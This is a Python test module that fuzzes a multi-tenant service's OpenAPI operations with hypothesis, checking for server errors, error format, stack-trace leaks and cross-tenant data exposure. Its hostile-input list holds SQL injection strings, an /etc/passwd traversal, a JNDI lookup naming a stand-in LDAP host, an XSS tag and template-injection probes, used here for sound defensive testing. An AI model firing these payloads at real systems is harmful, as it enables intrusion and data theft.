"""Property-based fuzzing of every operation in the app's own OpenAPI document.

For each operation (method + path) of `/openapi.json`, hypothesis builds requests from the
document itself: path, query and header parameters and JSON bodies, both schema-valid
(drawn from the JSON Schema, `$ref`s resolved against the components) and schema-breaking
(arbitrary JSON, wrong types, missing and unknown fields, NUL bytes, lone surrogates, huge
strings, invalid UTF-8, deep nesting). They go to the real application over ASGI as the
application role, mostly with tenant A's key, sometimes with none, a bad key or the finance token.

Every response must hold: status < 500; every 4xx is JSON `{"error": {"code", "message"}}`; a
2xx is JSON unless the route answers CSV, SSE or the finance page; no stack trace and no
exception class name; and nothing of tenant B (its id, its name, its run and job ids, its
question) in any answer, unless the caller itself put that text in the request. Generation is
derandomized (the same requests on every run) and bounded: about 25 s here for 3,200 requests.
"""

from __future__ import annotations

import asyncio
import json
import math
import re
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from typing import Any
from urllib.parse import quote

import asyncpg
import httpx
import pytest
from hypothesis import HealthCheck, Phase, event, given, settings
from hypothesis import strategies as st

from llm_service.api.app import create_app
from llm_service.db.pool import tenant_transaction
from llm_service.settings import Settings
from llm_service.tenants.service import CreatedTenant, create_tenant

FINANCE_TOKEN = "fuzz-finance-token-" + "f" * 24
REQUEST_TIMEOUT_S = 10.0
# Per operation and kind (valid / breaking): 16 operations x 2 x this = the requests sent.
EXAMPLES = 100

FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    # Shrinking only runs after a failure (then it is worth its time); no replay database.
    phases=[Phase.explicit, Phase.generate, Phase.shrink],
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
    ],
)

# The operations, from the document the application builds (no database needed), so that each
# one is its own test; `test_every_served_operation_is_fuzzed` checks the served document agrees.
_STATIC_DOC = create_app(Settings(llm_model=None, llm_api_base=None)).openapi()
OPERATIONS = sorted(
    (method.upper(), path)
    for path, operations in _STATIC_DOC["paths"].items()
    for method in operations
)
_OPERATION_IDS = [f"{method} {path}" for method, path in OPERATIONS]

# Exception names and stack frames never reach a client.
_EXCEPTION_NAME = re.compile(r"\b[A-Z][A-Za-z]*(?:Error|Exception|Warning)\b")
_STACK = ("Traceback (most recent call last)", 'File "/', "site-packages")
_NON_JSON_SUCCESS = ("text/csv", "text/event-stream", "text/html")


# --------------------------------------------------------------------------------------------
# The world: tenant A (the caller) and tenant B (whose data must never show), with resources
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class World:
    """Tenant A, tenant B, their resources, and what of B must never reach A."""

    a: CreatedTenant
    b: CreatedTenant
    b_name: str
    b_question: str
    b_run: str
    b_job: str
    a_run: str
    a_job: str

    def __repr__(self) -> str:
        return f"World(a={self.a.tenant_id}, b={self.b.tenant_id})"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(repr(self))  # hypothesis prints this in a failure report: keep it short

    @property
    def b_markers(self) -> dict[str, str]:
        """Text that identifies tenant B."""
        return {
            "B's tenant id": str(self.b.tenant_id),
            "B's name": self.b_name,
            "B's question": self.b_question,
            "B's run id": self.b_run,
            "B's job id": self.b_job,
        }

    @property
    def b_resource_ids(self) -> tuple[str, ...]:
        return (str(self.b.tenant_id), self.b_run, self.b_job)

    @property
    def path_ids(self) -> list[str]:
        """Candidate path parameters: A's and B's real ids, and ids that exist nowhere."""
        return [
            self.a_run,
            self.a_run,
            self.a_run,
            self.a_job,
            str(self.a.tenant_id),
            *self.b_resource_ids,
            str(uuid.UUID(int=0)),
            "6f1c1b5e-3f5a-4a8e-9a59-8f0e3c1d2b4a",
        ]


def _bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


@pytest.fixture(scope="module")
async def api(test_settings: Settings, app_pool: asyncpg.Pool) -> AsyncIterator[httpx.AsyncClient]:
    """The `client` fixture's application (real app, ASGI, application role), with a finance
    token configured so that the finance routes are exercised rather than all answering 503."""
    settings = test_settings.model_copy(update={"finance_api_token": FINANCE_TOKEN})
    app = create_app(settings, pool=app_pool)
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
            yield http


@pytest.fixture(scope="module")
async def world(api: httpx.AsyncClient, owner_pool: asyncpg.Pool) -> AsyncIterator[World]:
    """Two tenants with a run and a job each; A's run is cancelled (its event stream ends).

    Both tenants are deleted afterwards, and with them every run and job the fuzzer queued, so
    that no later test's worker picks them up.
    """
    marker = uuid.uuid4().hex[:12]
    b_name = f"victim-tenant-{marker}"
    b_question = f"What did campaign zebra-{marker} earn for the victim tenant?"
    a = await create_tenant(owner_pool, f"fuzz-caller-{marker}")
    b = await create_tenant(owner_pool, b_name)
    period = {"start": "2026-01-01", "end": "2026-02-01"}
    ids: dict[str, str] = {}
    for name, tenant, question in (
        ("a", a, "Why did revenue fall last week?"),
        ("b", b, b_question),
    ):
        headers = _bearer(tenant.api_key)
        run = await api.post("/v1/investigations", json={"question": question}, headers=headers)
        job = await api.post(
            "/v1/budget-optimizations",
            json={"total_budget_usd": "1000", "period": period},
            headers=headers,
        )
        assert run.status_code == job.status_code == 202, (run.text, job.text)
        ids[f"{name}_run"], ids[f"{name}_job"] = run.json()["id"], job.json()["id"]
    cancelled = await api.post(
        f"/v1/investigations/{ids['a_run']}/cancel", headers=_bearer(a.api_key)
    )
    assert cancelled.json()["status"] == "cancelled"
    yield World(a=a, b=b, b_name=b_name, b_question=b_question, **ids)
    for tenant in (a, b):
        async with tenant_transaction(owner_pool, tenant.tenant_id) as conn:
            await conn.execute("DELETE FROM tenants WHERE id = $1", tenant.tenant_id)


class Document:
    """The served OpenAPI document (a short repr: hypothesis prints test arguments)."""

    def __init__(self, doc: dict[str, Any]) -> None:
        self.doc = doc

    def operation(self, method: str, path: str) -> Operation:
        return Operation.from_doc(self.doc, method, path)

    def operations(self) -> list[tuple[str, str]]:
        return sorted(
            (method.upper(), path)
            for path, operations in self.doc["paths"].items()
            for method in operations
        )

    def __repr__(self) -> str:
        return f"Document({len(self.operations())} operations)"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(repr(self))


@pytest.fixture(scope="module")
async def served_doc(api: httpx.AsyncClient) -> Document:
    """The application's own OpenAPI document, as it serves it."""
    response = await api.get("/openapi.json")
    assert response.status_code == 200
    return Document(response.json())


# --------------------------------------------------------------------------------------------
# Strategies
# --------------------------------------------------------------------------------------------


def resolve_refs(schema: Any, components: dict[str, Any]) -> Any:
    """`schema` with every `#/components/schemas/...` reference replaced by its target."""
    if isinstance(schema, list):
        return [resolve_refs(item, components) for item in schema]
    if not isinstance(schema, dict):
        return schema
    if "$ref" in schema:
        name = schema["$ref"].removeprefix("#/components/schemas/")
        return resolve_refs(components[name], components)
    return {k: resolve_refs(v, components) for k, v in schema.items()}


_OFFSETS = st.integers(min_value=-14 * 60, max_value=14 * 60).map(
    lambda minutes: timezone(timedelta(minutes=minutes))
)
_FORMATS: dict[str, st.SearchStrategy[str]] = {
    "uuid": st.uuids().map(str),
    # Mostly near today (so that a start comes before an end often enough to get past the
    # validation), else anywhere, or at the calendar's ends (where date arithmetic breaks).
    "date": st.one_of(
        st.dates(date(2025, 1, 1), date(2027, 12, 31)),
        st.dates(),
        st.dates(date(1, 1, 1), date(1, 3, 1)) | st.dates(date(9999, 11, 1), date(9999, 12, 31)),
    ).map(date.isoformat),
    "date-time": st.datetimes(timezones=st.none() | _OFFSETS).map(datetime.isoformat),
}
# Keywords that only document: no bearing on which values are valid.
_ANNOTATIONS = frozenset({"title", "description", "default", "examples"})
# Map keys worth drawing for `additionalProperties` maps (the budget bounds are per channel).
_MAP_KEYS = st.sampled_from(["facebook_paid", "google_ads", "email", "organic_search"]) | st.text(
    max_size=20
)


def valid_value(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values that satisfy `schema`: hypothesis straight from JSON Schema, for the keywords
    FastAPI and pydantic emit (an unknown keyword fails the test rather than being ignored).

    hypothesis-jsonschema would do this, but its last release (0.23.1) cannot draw objects
    with the hypothesis this project installs (its object strategy uses a removed internal).
    """
    unknown = set(schema) - _ANNOTATIONS - {
        "anyOf", "enum", "type", "format", "pattern", "minLength", "maxLength", "minimum",
        "maximum", "exclusiveMinimum", "exclusiveMaximum", "properties", "required",
        "additionalProperties", "maxProperties", "items", "minItems", "maxItems",
    }  # fmt: skip
    assert not unknown, f"the fuzzer does not know the JSON Schema keywords {unknown}"
    if "anyOf" in schema:
        return st.one_of(*(valid_value(option) for option in schema["anyOf"]))
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    kind = schema.get("type")
    if kind == "null":
        return st.none()
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        low = _bound(schema, "minimum", "exclusiveMinimum", +1)
        high = _bound(schema, "maximum", "exclusiveMaximum", -1)
        edges = [n for n in _INT_EDGES if (low is None or n >= low) and (high is None or n <= high)]
        integers = st.integers(min_value=low, max_value=high)
        return st.sampled_from(edges) | integers if edges else integers
    if kind == "number":
        low = schema.get("minimum", schema.get("exclusiveMinimum"))
        high = schema.get("maximum", schema.get("exclusiveMaximum"))
        floats = st.floats(
            min_value=low,
            max_value=high,
            exclude_min="exclusiveMinimum" in schema,
            exclude_max="exclusiveMaximum" in schema,
            allow_nan=False,
            allow_infinity=False,
        )
        # Whole numbers too: amounts in USD are refused past 2 decimal places, most floats.
        whole_low = None if low is None else math.floor(low) + 1
        whole_high = None if high is None else math.ceil(high) - 1
        if whole_low is None or whole_high is None or whole_low <= whole_high:
            return st.integers(min_value=whole_low, max_value=whole_high) | floats
        return floats
    if kind == "string":
        return _strings(schema)
    if kind == "array":
        return st.lists(
            valid_value(schema.get("items", {"type": "string"})),
            min_size=schema.get("minItems", 0),
            max_size=min(schema.get("maxItems", 5), 5),
        )
    if kind == "object":
        # The document's own examples are valid requests that reach deep into the service.
        examples = schema.get("examples", [])
        return st.sampled_from(examples) | _objects(schema) if examples else _objects(schema)
    raise AssertionError(f"the fuzzer does not know the schema {schema}")


# Where integer columns overflow (bigint, int) and a few near them.
_INT_EDGES = [-(2**63) - 1, -(2**63), -1, 0, 2**31, 2**63 - 1, 2**63, 2**64, 10**30]
# Text allowed by any schema without a pattern, but not by PostgreSQL or naive parsers.
_EDGY_CHARS = st.sampled_from(["\x00", "'", '"', "\\", "%", "\u202e", "\ufeff", "\U0001f4a5"])


def _bound(schema: dict[str, Any], inclusive: str, exclusive: str, step: int) -> int | None:
    if inclusive in schema:
        return int(schema[inclusive])
    if exclusive in schema:
        return int(schema[exclusive]) + step
    return None


def _strings(schema: dict[str, Any]) -> st.SearchStrategy[str]:
    low, high = schema.get("minLength", 0), schema.get("maxLength")
    if "format" in schema:
        base = _FORMATS[schema["format"]]
    elif "pattern" in schema:
        base = st.from_regex(schema["pattern"], fullmatch=True)
    else:
        base = st.one_of(
            st.text(max_size=min(high or 60, 60)),
            # Words with awkward characters between them (a text alphabet would dilute these).
            st.lists(_EDGY_CHARS | st.text(min_size=1, max_size=8), min_size=1, max_size=10).map(
                "".join
            ),
        )
        # The longest string allowed, too: limits are where parsers and columns break.
        if high is not None:
            base |= st.characters(codec="utf-8").map(lambda char: char * high)
    return base.filter(lambda text: low <= len(text) <= (high if high is not None else len(text)))


def _objects(schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    properties: dict[str, Any] = schema.get("properties", {})
    required = set(schema.get("required", ()))
    fields = {
        name: valid_value(sub) if name in required else st.none() | valid_value(sub)
        for name, sub in properties.items()
    }
    extra = schema.get("additionalProperties", True)
    extras: st.SearchStrategy[dict[str, Any]] = st.just({})
    if isinstance(extra, dict):
        size = min(schema.get("maxProperties", 3), 3)
        extras = st.dictionaries(_MAP_KEYS, valid_value(extra), max_size=size)

    def assemble(drawn: dict[str, Any], more: dict[str, Any]) -> dict[str, Any]:
        # An optional field drawn as None is left out (null is not always allowed).
        return {**more, **{k: v for k, v in drawn.items() if k in required or v is not None}}

    return st.builds(assemble, st.fixed_dictionaries(fields), extras)


# Strings every parser should meet once: injection, encodings, edge dates and numbers.
HOSTILE_STRINGS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "x\udfffy",
    "\ufeff\u202e\u200b",
    "' OR '1'='1",
    "'; DROP TABLE investigations; --",
    "1; SELECT pg_sleep(10)",
    "$1",
    "%s%s%n",
    "../../../../etc/passwd",
    "%00",
    "%ff%fe",
    "\\u0000",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "null",
    "true",
    "[]",
    "{}",
    "-1",
    "0",
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "9" * 40,
    "2026-02-30",
    "2026-13",
    "0000-01",
    "9999-12",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "00000000-0000-0000-0000-000000000000",
    "queued' OR status IS NOT NULL --",
    "last week' OR 1=1 --",
    "2026-13-01 to 2026-14-01",
    "0000-01-01 to 0001-01-01",
    "0001-01-01 to 0001-01-05",
    "9999-12-30 to 9999-12-31",
    "last 366 days",
    "week of 29 february",
]

_any_char = st.characters(exclude_categories=[])  # surrogates included


def _hostile(lengths: list[int]) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(HOSTILE_STRINGS),
        st.text(_any_char, max_size=40),
        st.builds(
            lambda char, n: char * n,
            st.sampled_from(["x", "é", "\x00", "'", "\ud800", "€"]),
            st.sampled_from(lengths),
        ),
    )


# In bodies: up to past the body limit (64 KiB). In URLs and headers: up to a few KiB, as
# every HTTP server refuses longer request lines and headers before the application sees them.
hostile_text = _hostile([201, 501, 4001, 20_000, 70_000])
hostile_param = _hostile([201, 501, 2001])

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
arbitrary_json = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(hostile_text, inner, max_size=4),
    max_leaves=12,
)


def _mutations(value: Any) -> st.SearchStrategy[Any]:
    """A valid object broken in one place: a field dropped, retyped, or an unknown one added."""
    if not isinstance(value, dict) or not value:
        return arbitrary_json
    keys = sorted(value)

    def drop(key: str) -> dict[str, Any]:
        return {k: v for k, v in value.items() if k != key}

    def setting(key: str, new: Any) -> dict[str, Any]:
        return {**value, key: new}

    strings = sorted(k for k, v in value.items() if isinstance(v, str))
    return st.one_of(
        st.sampled_from(keys).map(drop),
        # One text field poisoned, the rest left valid: reaches the code behind validation.
        st.builds(setting, st.sampled_from(strings or keys), hostile_text),
        st.builds(setting, st.sampled_from(keys), arbitrary_json),
        st.builds(
            setting,
            st.sampled_from(["tenant_id", "id", "cost_cents", "status", "max_cost_cents"])
            | hostile_text,
            arbitrary_json,
        ),
    )


def _deep(opening: bytes, depth: int) -> bytes:
    return opening * depth


raw_bodies = st.one_of(
    st.sampled_from(
        [
            b"",
            b"{",
            b'{"question": ',
            b"\xff\xfe\xfd",
            b'{"question": "\xc3\x28 invalid utf-8"}',
            b'{"question": "why \\u0000 did it fall"}',
            b'{"question": "why \\ud800 did it fall"}',
            b'{"question": NaN}',
            b'{"max_cost_usd": 1e999, "question": "why did it fall"}',
            b'{"question": "a", "question": "why did it fall"}',
            _deep(b"[", 10_000),
            _deep(b"[", 20_000) + _deep(b"]", 20_000),
            b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
        ]
    ),
    st.binary(max_size=200),
)


@dataclass(frozen=True)
class Call:
    """One request to send, and how it was authenticated."""

    method: str
    url: str
    auth: str
    headers: tuple[tuple[bytes, bytes], ...]
    content: bytes | None

    def text(self) -> str:
        """Everything the caller sent, for telling an echo from a leak."""
        parts = [self.url, *(v.decode("latin-1") for _, v in self.headers)]
        if self.content:
            parts.append(self.content.decode("utf-8", "replace"))
            parts.append(self.content.decode("latin-1"))
        return "\n".join(parts)

    def __repr__(self) -> str:
        body = (self.content or b"")[:300]
        headers = {k.decode(): v[:100] for k, v in self.headers if k != b"authorization"}
        return f"{self.method} {self.url[:300]} auth={self.auth} headers={headers} body={body!r}"


def _encode(value: Any) -> str:
    """A parameter value as the text a client would send."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return value
    return json.dumps(value)


def _quote(value: str) -> str:
    # Lone surrogates become the (invalid UTF-8) bytes a hostile client could send.
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def _serialise(body: Any, draw: st.DrawFn) -> bytes:
    if draw(st.booleans()):
        return json.dumps(body).encode()  # ASCII, with \\u escapes
    return json.dumps(body, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _auth_header(auth: str, world: World) -> bytes | None:
    return {
        "a": f"Bearer {world.a.api_key}".encode(),
        "finance": f"Bearer {FINANCE_TOKEN}".encode(),
        "bad": b"Bearer lsk_" + b"0" * 40,
        "garbage": b"Bearer \xff\x00' OR 1=1 --",
        "none": None,
    }[auth]


@dataclass(frozen=True)
class Operation:
    """One operation of the document, its parameters' and body's schemas with `$ref`s resolved."""

    method: str
    path: str
    parameters: tuple[tuple[str, str, bool, dict[str, Any]], ...]  # name, in, required, schema
    body: dict[str, Any] | None

    @classmethod
    def from_doc(cls, doc: dict[str, Any], method: str, path: str) -> Operation:
        """The operation `method path` of `doc`."""
        spec = doc["paths"][path][method.lower()]
        components = doc.get("components", {}).get("schemas", {})
        parameters = tuple(
            (p["name"], p["in"], bool(p.get("required")), resolve_refs(p["schema"], components))
            for p in spec.get("parameters", [])
        )
        body = spec.get("requestBody")
        schema = body["content"]["application/json"]["schema"] if body else None
        return cls(method, path, parameters, resolve_refs(schema, components) if body else None)

    def __repr__(self) -> str:
        return f"Operation({self.method} {self.path})"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(repr(self))


# Known-good bodies (the README's) beside the drawn ones, so that every route is also reached
# past its validation; the document's own `examples` serve the same purpose.
SEED_BODIES: dict[tuple[str, str], list[dict[str, Any]]] = {
    ("POST", "/v1/investigations"): [
        {"question": "Why did paid social revenue fall?", "max_cost_usd": 0.1, "timeout_s": 30},
    ],
    ("POST", "/v1/budget-optimizations"): [
        {
            "total_budget_usd": "10000",
            "period": {"start": "2026-10-01", "end": "2026-11-01"},
            "bounds": {"facebook_paid": {"min_usd": "500", "max_usd": "4000"}},
        },
        {"total_budget_usd": 250, "period": {"start": "2026-01-01", "end": "2026-01-08"}},
    ],
}
_AUTHS = ["a"] * 6 + ["none", "bad", "garbage", "finance"]
_CONTENT_TYPES = [b"application/json"] * 4 + [b"text/plain", b"application/x-www-form-urlencoded"]


@st.composite
def requests(draw: st.DrawFn, operation: Operation, world: World, *, breaking: bool) -> Call:
    """A request to `operation`, schema-valid or (with `breaking`) schema-breaking."""
    auth = draw(st.sampled_from(_AUTHS))
    url = operation.path
    query: list[tuple[str, str]] = []
    headers: list[tuple[bytes, bytes]] = []
    header = _auth_header(auth, world)
    if header is not None:
        headers.append((b"authorization", header))
    for name, where, required, schema in operation.parameters:
        values = valid_value(schema)
        if breaking:
            values |= hostile_param
        if where == "path" and draw(st.integers(0, 3)) < 3:
            # Mostly real ids (A's and B's): that is where tenancy is decided.
            values = st.sampled_from(world.path_ids)
        if where != "path" and not required and draw(st.booleans()):
            continue  # an optional parameter left out
        raw = draw(values)
        if raw is None:
            continue
        value = _encode(raw)
        if where == "path":
            url = url.replace("{" + name + "}", _quote(value))
        elif where == "query":
            query.append((name, value))
        else:
            headers.append((name.lower().encode(), value.encode("utf-8", "surrogatepass")))
    content: bytes | None = None
    if operation.body is not None:
        bodies = valid_value(operation.body)
        seeds = SEED_BODIES.get((operation.method, operation.path))
        if seeds:
            bodies = st.sampled_from(seeds) | bodies
        if not breaking:
            content = _serialise(draw(bodies), draw)
        else:
            kind = draw(st.sampled_from(["mutated", "arbitrary", "raw"]))
            if kind == "mutated":
                content = _serialise(draw(bodies.flatmap(_mutations)), draw)
            elif kind == "arbitrary":
                content = _serialise(draw(arbitrary_json), draw)
            else:
                content = draw(raw_bodies)
        content_type = draw(st.sampled_from(_CONTENT_TYPES)) if breaking else b"application/json"
        headers.append((b"content-type", content_type))
    if query:
        url += "?" + "&".join(f"{_quote(k)}={_quote(v)}" for k, v in query)
    return Call(operation.method, url, auth, tuple(headers), content)


# --------------------------------------------------------------------------------------------
# The properties every response must have
# --------------------------------------------------------------------------------------------


async def send(api: httpx.AsyncClient, call: Call) -> httpx.Response:
    """Send `call`; a request that has not answered within REQUEST_TIMEOUT_S is a failure."""
    try:
        return await asyncio.wait_for(
            api.request(call.method, call.url, headers=list(call.headers), content=call.content),
            REQUEST_TIMEOUT_S,
        )
    except TimeoutError:
        raise AssertionError(f"no answer within {REQUEST_TIMEOUT_S} s: {call!r}") from None


def check_response(call: Call, response: httpx.Response, world: World) -> None:
    """Status < 500, the error shape, no stack trace, nothing of tenant B."""
    status = response.status_code
    text = response.text
    event(f"{call.auth} -> {status}")  # shown by --hypothesis-show-statistics
    assert status < 500, f"{status} for {call!r}: {text[:500]}"
    content_type = response.headers.get("content-type", "")
    is_json = content_type.startswith("application/json")
    if 400 <= status < 500:
        assert is_json, f"{status} {content_type!r} for {call!r}"
        body = response.json()
        assert isinstance(body, dict) and isinstance(body.get("error"), dict), (call, text[:500])
        error = body["error"]
        assert isinstance(error.get("code"), str) and error["code"], (call, text[:500])
        assert isinstance(error.get("message"), str) and error["message"], (call, text[:500])
    elif 200 <= status < 300:
        if is_json:
            response.json()
        else:
            assert content_type.startswith(_NON_JSON_SUCCESS), f"{content_type!r} for {call!r}"
    sent = call.text()
    for frame in _STACK:
        assert frame not in text, f"a stack trace for {call!r}: {text[:800]}"
    if is_json or status >= 400:
        names = {m for m in _EXCEPTION_NAME.findall(text) if m not in sent}
        assert not names, f"exception names {names} for {call!r}: {text[:800]}"
    if call.auth != "finance":  # the finance token sees every tenant, by design
        for what, marker in world.b_markers.items():
            if marker not in sent:
                assert marker not in text, f"{what} in the answer to {call!r}: {text[:800]}"
        if call.auth == "a" and any(rid in call.url for rid in world.b_resource_ids):
            assert not 200 <= status < 300, f"A read B's resource: {call!r}: {text[:500]}"


# --------------------------------------------------------------------------------------------
# Tests
# --------------------------------------------------------------------------------------------


async def test_every_served_operation_is_fuzzed(served_doc: Document) -> None:
    assert served_doc.operations() == OPERATIONS
    assert len(OPERATIONS) >= 16


@pytest.mark.parametrize(("method", "path"), OPERATIONS, ids=_OPERATION_IDS)
@FUZZ
@given(data=st.data())
async def test_schema_valid_requests_get_no_5xx_and_nothing_of_another_tenant(
    api: httpx.AsyncClient,
    world: World,
    served_doc: Document,
    method: str,
    path: str,
    data: st.DataObject,
) -> None:
    operation = served_doc.operation(method, path)
    call = data.draw(requests(operation, world, breaking=False), label="request")
    check_response(call, await send(api, call), world)


@pytest.mark.parametrize(("method", "path"), OPERATIONS, ids=_OPERATION_IDS)
@FUZZ
@given(data=st.data())
async def test_schema_breaking_requests_get_json_4xx_and_nothing_of_another_tenant(
    api: httpx.AsyncClient,
    world: World,
    served_doc: Document,
    method: str,
    path: str,
    data: st.DataObject,
) -> None:
    operation = served_doc.operation(method, path)
    call = data.draw(requests(operation, world, breaking=True), label="request")
    check_response(call, await send(api, call), world)


async def test_tenant_b_is_untouched_by_the_fuzzing(
    api: httpx.AsyncClient, world: World, owner_pool: asyncpg.Pool
) -> None:
    """Runs last in this module: whatever A sent, B's run, job and record are as they were."""
    run = await api.get(f"/v1/investigations/{world.b_run}", headers=_bearer(world.b.api_key))
    assert run.status_code == 200
    assert run.json()["status"] == "queued" and run.json()["question"] == world.b_question
    assert run.json()["max_cost_usd"] == "0.3"
    job = await api.get(f"/v1/budget-optimizations/{world.b_job}", headers=_bearer(world.b.api_key))
    assert job.status_code == 200 and job.json()["status"] == "queued"
    me = (await api.get("/v1/tenants/me", headers=_bearer(world.b.api_key))).json()
    assert me["name"] == world.b_name
    # The owner may bypass RLS (a superuser on the embedded server): filter by tenant.
    async with tenant_transaction(owner_pool, world.b.tenant_id) as conn:
        for table in ("investigations", "budget_optimization_jobs"):
            rows = await conn.fetchval(
                f"SELECT count(*) FROM {table} WHERE tenant_id = $1", world.b.tenant_id
            )
            assert rows == 1, table
